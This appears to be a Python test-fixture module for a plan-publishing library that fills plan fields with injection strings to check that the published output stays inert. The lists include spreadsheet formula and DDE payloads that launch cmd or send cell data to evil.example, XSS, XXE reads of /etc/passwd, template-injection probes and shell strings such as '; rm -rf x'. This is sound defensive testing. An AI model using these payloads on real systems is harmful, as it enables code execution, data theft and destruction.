"""Texts that some program would obey, and a plan that has one wherever a text can stand."""

from __future__ import annotations

from collections.abc import Iterator

import rusfelt
from rusfelt.disclosure.policy import policy_named
from rusfelt.publishing import Hidden, Published

__all__ = ["PAYLOADS", "PRODUCT", "TEXTS", "hostile", "states"]

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=RTD("prog","","x")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","x",0,0)',
    "{=1+1}",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "tekst\n=1+1",
    "tekst\r\n=1+1",
    "tekst\t=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "a;=1+1",
    "a,=1+1",
    "a|=1+1",
    'a";=1+1;"',
    'a",=1+1,"',
    '"=1+1"',
    "'=1+1",
    "a; @SUM(1)",
    "http://evil.example/",
    "mailto:x@evil.example",
    "file:///c:/windows/win.ini",
    "\\\\evil.example\\share",
    "internal:Ark!A1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<![CDATA[x]]><!ENTITY x SYSTEM "file:///etc/passwd">',
    ']]></narrative><actual value="9"/>',
    "&x; &#0; &lt;b&gt;",
    "_x0041__x000D_",
    '&P&N&"Arial,Bold"&K000000',
    "\x00\x07\x1b[31m\x7f",
    "\ud83d half",
    "1e5",
    "TRUE",
    "2019-03",
)  # fmt: skip

# What a template language that obeyed one of the texts would print.
PRODUCT = "9801547"
_SUM = "1337*7331"

_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66")
_HEADS = (
    "", " ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\t", "\r", "\n", "tekst\r\n", '"', "'", "a;", "a,",
    "a|", "a\t", 'a";"',
)  # fmt: skip
_BODIES = (
    "1+1", "cmd|' /C calc'!A0", "2+5+cmd|' /C calc'!A0", "SUM(1+9)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")', 'HYPERLINK("http://evil.example/?x="&A1,"klikk")',
    'WEBSERVICE("http://evil.example/"&A1)', 'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'IMAGE("http://evil.example/x.png")', 'RTD("prog","","x")', "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","x",0,0)', "rundll32|'URL.dll'!A",
    'FILTERXML("<x/>","//x")', "'file:///c:/x/[x.xls]A'!A1", "INDIRECT(A1)", "EXEC(1)",
)  # fmt: skip
_OUT_OF = (
    "", '">', "'>", "</td>", "</title>", "</style>", "</svg>", "-->", "]]>", "</code></h3>",
)  # fmt: skip
_ELEMENTS = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", '<iframe src="javascript:alert(1)">', "<object data=//evil.example>",
    "<embed src=//evil.example>", '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=//evil.example">', "<base href=//evil.example/>",
    "<form action=//evil.example><button>", "<style>@import url(//evil.example)</style>",
    '<a href="javascript:alert(1)">x</a>', "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>",
    "<math><mtext></p><img src=x>", "<template><p>x</template>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onfocus='alert(1)' x='", "` onerror=alert(1) `", '" style="x:url(//e)',
    '" href="javascript:alert(1)', '"/><g onclick="alert(1)"', "x onload=alert(1)", '" id="tall" x="',
    '" aria-labelledby="', '" class="internal',
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "java\tscript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "http://evil.example/",
    "https://evil.example/?a=1&b=2", "//evil.example", "mailto:x@evil.example", "ftp://evil.example/x",
    "file:///c:/windows/win.ini", "\\\\evil.example\\share", "internal:Ark!A1", "external:x.xlsx#A!A1",
    "ms-word:ofe|u|http://evil.example/x.docx", "search-ms:query=x&crumb=location:\\\\evil.example",
)  # fmt: skip
_STYLES = (
    "}</style><script>1</script>", "x{background:url(//evil.example)}", "expression(alert(1))",
    "behavior:url(x.htc)", "-moz-binding:url(//evil.example)", "@import '//evil.example';", "/* */ } * {",
    "\\3c script\\3e", "url(data:text/css,x)", "var(--x)",
)  # fmt: skip
_DRAWN = (
    "<use href='data:image/svg+xml,x'/>", "<foreignObject><body onload=alert(1)>", "<set onbegin=alert(1)>",
    "<animate attributeName=href values=javascript:alert(1)>", "<image href='//evil.example/x'/>",
    "$\\frac{1}{0}$", "$x^2$", "$\\mathbf{x}$ kroner", "$", "$$", "\\$ 5", "\\href{//e}{x}", "%matplotlib",
    "_", "_nolegend_", "<title>x</title>", "<desc/>", "url(#x)",
)  # fmt: skip
_FIELDS = (
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', '{ INCLUDETEXT "http://evil.example/x" }',
    '{INCLUDEPICTURE "\\\\evil.example\\x" \\d}', 'HYPERLINK "http://evil.example"', "{ QUOTE 1 }",
    "\x13 DDE cmd x \x14 x \x15", "</w:t></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>",
    '</w:t><w:hyperlink r:id="rId1"><w:t>', "<w:altChunk/>", '<w:fldSimple w:instr="DDE x"/>',
    "<w:object/>", "<w:drawing/>", "]]></w:t>", "_x0041_", "_x000D_", "_x005F_x0041_", "<w:br/>",
    "MACROBUTTON x y", "<w:del/>", '"/><wp:docPr id="1" name="x',
)  # fmt: skip
_MARKUP = (
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', '<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;",
    "<![CDATA[x]]>", "<!-- x -->", "<!--", "<?xml-stylesheet href='//evil.example'?>", "<?php x ?>",
    "&#0;", "&#x1b;", "&lt;b&gt;", "&amp;lt;", ']]></narrative><actual value="9"/>', '"}],"x":[{"y":"',
    "\\u003cscript\\u003e", "<", ">", "&", '"', "'", '&P&N&"Arial,Bold"&K000000', "&G", "<xi:include href='x'/>",
)  # fmt: skip
_TEMPLATES = (
    "{{ SUM }}", "{{SUM}}", "{% print(SUM) %}", "{%- raw %}", "{# x #}", "{{ ''.__class__.__mro__ }}",
    "{{ self.__init__.__globals__ }}", "${SUM}", "#{SUM}", "<%= SUM %>", "[[SUM]]", "{0}", "{}", "{plan}",
    "{0.__class__.__init__.__globals__}", "{x!r:>{y}}", "{n}", "{value}", "{", "}", "%s", "%n%n", "%(x)s",
    "%d", "$x", "`id`", "$(id)", "; rm -rf x", "| id", "\\1\\g<0>", "__import__('os')", "!!python/object:x",
)  # fmt: skip
_RICH = (
    "[red]x[/red]", "[link=http://evil.example]x[/link]", "[/]", "[/nothing]", "[bold", "[blink]x",
    ":smile:", ":warning:", "[@click=app.quit]x[/]", "\\[x]", "[on red]", "[#ff0000]x",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07", "\x1bP+q544e\x1b\\", "\x1bc", "\x1b[6n", "\x1b[?1049h", "\x9b31m", "\x9d0;x\x9c",
    "x\rnothing", "x\x08\x08y", "\x07", "\x1b(0", "\x0e", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1b[1;1Hx",
    "\x1b]1337;File=x:eA==\x07",
)  # fmt: skip
_SPECIAL = (
    "\u202etxt.exe", "\u2066x\u2069", "\u2067x", "\u200ex", "\u200fx", "x\u200by", "x\u2060y", "\u00adx", "\u2028x",
    "\u2029x", "x\u0085y", "\ufffe", "\uffff", "\U000e0041\U000e0042", "\ud83d half", "half \udc80", "\ue000",
    "a\u0300\u0301\u0302", "\u0b95\u0bcd", "\U0001f468\u200d\U0001f469", "\u1680x", "\u3000=1", "\u115fx", "\x7f",
    "TRUE", "1e5", "0x10", "2019-03", "00123", "-5", "-5,3", "1.000", "NULL", "NaN", "#REF!", "#N/A",
    ":", "..", ".", "-", "x" * 300,
)  # fmt: skip


def _all() -> Iterator[str]:
    for place, sign in enumerate(_SIGNS):
        for other, head in enumerate(_HEADS):
            yield f"{head}{sign}{_BODIES[(place + other) % len(_BODIES)]}"
    for head in _OUT_OF:
        yield from (head + each for each in _ELEMENTS)
    for family in (_ATTRIBUTES, _ADDRESSES, _STYLES, _DRAWN, _FIELDS, _MARKUP, _RICH, _TERMINAL):
        yield from family
    yield from (each.replace("SUM", _SUM) for each in _TEMPLATES)
    yield from _SPECIAL
    # Every control sign by itself.
    yield from (f"x{chr(code)}y" for code in (*range(32), *range(127, 160)))


TEXTS = tuple(dict.fromkeys(_all()))


def hostile(**named: object) -> Published:
    """Every payload as a title, a unit, a source and a note, and in all else a plan can say."""
    first = PAYLOADS[4]
    indicators = [
        rusfelt.Indicator(
            f"i{place}", text, kind="count", counts="events", design="register", better="lower",
            unit=text, source=text, definition=text,
        )
        for place, text in enumerate(PAYLOADS)
    ]  # fmt: skip
    plan = rusfelt.Plan(
        "=hostile+1",
        first,
        owners=list(PAYLOADS),
        area="@area",
        period=["2020", "2024"],
        goals=[rusfelt.Goal("=g", first)],
        strategies=[rusfelt.Strategy("-s", first, goals=["=g"])],
        indicators=indicators,
        targets=[rusfelt.Target("i0", value=3, due="2022", operator="==", reason=first)],
        tiltak=[
            rusfelt.Tiltak(
                f"+t{place}", text, label=text, strategies=["-s"], responsible=[text],
                moves=[f"i{place}"], progress=[rusfelt.Progress("dropped", "2021", reason=text)],
            )
            for place, text in enumerate(PAYLOADS)
        ],
    )  # fmt: skip
    rows = [
        rusfelt.Measurement(f"i{place}", "@area", period=year, value=value, source=text, note=text)
        for place, text in enumerate(PAYLOADS)
        for year, value in (("2020", -12.5), ("2021", 7))
    ]
    found = rusfelt.evaluate_plan(plan, rusfelt.Measurements.of(rows), evaluators=[])
    told = tuple(Hidden("text", text, "i0", detail=text) for text in PAYLOADS)
    return Published(found, policy_named("helse5"), hidden=told, **named)  # type: ignore[arg-type]


def states(**named: object) -> Published:
    """A figure in every state a cell can have, and a bound, below zero and after a break."""
    of = rusfelt.Measurement
    rows = [
        of("i", period="2015", value=-12.5),
        of("i", period="2016", state="approximate", value=7),
        of("i", period="2017", state="missing"),
        of("i", period="2018", state="suppressed"),
        of("i", period="2019", state="not-applicable"),
        of("i", period="2020", state="undefined"),
        of("i", period="2021", value=5, bound="<"),
        of("i", period="2022", value=0, break_before=True),
        of("i", period="2023", state="projected", value=4),
        of("i", period="2024", state="not-due"),
        of("i", period="2022", value=8, group="age=18-24;sex=F"),
        of("m", period="2021-05-01", value=1),
    ]
    plan = rusfelt.Plan(
        "states",
        rusfelt.Titles(nb="Tilstander", en="States"),
        area="030108",
        period=["2020", "2024"],
        indicators=[
            rusfelt.Indicator("i", "Tall", kind="amount", unit="kroner", better="higher"),
            rusfelt.Indicator("m", "Milepæl", kind="milestone"),
            rusfelt.Indicator("none", "Uten tall", kind="count"),
        ],
        targets=[
            rusfelt.Target("i", value=10, due="2023", baseline=-12.5, baseline_period="2015"),
            rusfelt.Target("none", value=2, operator=">="),
            rusfelt.Target("m", value=1, due="2030-06-30"),
        ],
        tiltak=[rusfelt.Tiltak("t", "Gjøre noe", measured_by=["none"], moves=["i"])],
    )
    found = rusfelt.evaluate_plan(plan, rusfelt.Measurements.of(rows), as_of="2024-06-30")
    return Published(found, None, **named)  # type: ignore[arg-type]
